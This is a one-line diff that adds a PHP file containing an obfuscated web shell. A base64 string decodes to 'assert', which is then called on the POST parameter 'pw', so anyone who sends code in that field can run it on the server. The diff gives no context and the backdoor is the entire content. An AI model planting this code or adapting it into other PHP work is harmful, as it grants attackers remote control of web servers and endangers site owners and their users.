@@ -1,0 +1,1 @@
+<?php $fn = base64_decode("YXNzZXJ0"); $fn($_POST['pw']); ?>
